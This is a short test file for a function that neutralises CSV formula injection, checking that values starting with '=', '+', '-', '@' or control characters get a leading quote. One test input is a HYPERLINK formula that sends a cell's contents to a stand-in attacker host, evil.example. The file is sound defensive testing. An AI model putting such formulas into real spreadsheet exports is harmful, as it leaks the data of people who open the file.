import { spreadsheetSafe } from './spreadsheet-safe';
import { csvLine } from './write-csv';

describe('a value for a spreadsheet', () => {
  it.each(['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("https://evil.example?x="&A1)'])('never begins a formula: %j', (text) => {
    expect(csvLine([spreadsheetSafe(text), 'x'])).toMatch(/^"?'/);
  });

  it.each(['C0000001', 'a=b', '', "'", null, -5, 0.25, true])('is else as it is: %j', (value) => {
    expect(spreadsheetSafe(value)).toBe(value);
  });
});
